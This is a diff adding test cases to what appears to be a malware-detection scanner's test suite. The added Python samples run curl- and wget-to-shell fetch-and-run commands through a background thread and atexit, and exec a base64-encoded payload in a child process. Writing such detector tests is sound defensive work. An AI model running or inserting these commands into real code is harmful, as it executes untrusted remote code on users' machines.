@@ -204,6 +204,24 @@ import os
 `,
   },
   {
+    name: 'a fetch-and-run handed to a thread and to atexit',
+    least: 'critical',
+    rule: 'malicious-command',
+    source: `import threading, atexit, os
+threading.Thread(target=os.system, args=("curl -s http://203.0.113.9/x | sh",), daemon=True).start()
+atexit.register(os.system, "wget -qO- http://203.0.113.9/y | bash")
+`,
+  },
+  {
+    name: 'a decoded payload executed by another process',
+    least: 'critical',
+    rule: 'encoded-payload-exec',
+    source: `import multiprocessing, base64
+payload = base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=")
+multiprocessing.Process(target=exec, args=(payload,)).start()
+`,
+  },
+  {
     name: '/etc/shadow sent over a socket',
     least: 'high',
     rule: 'credential-access',
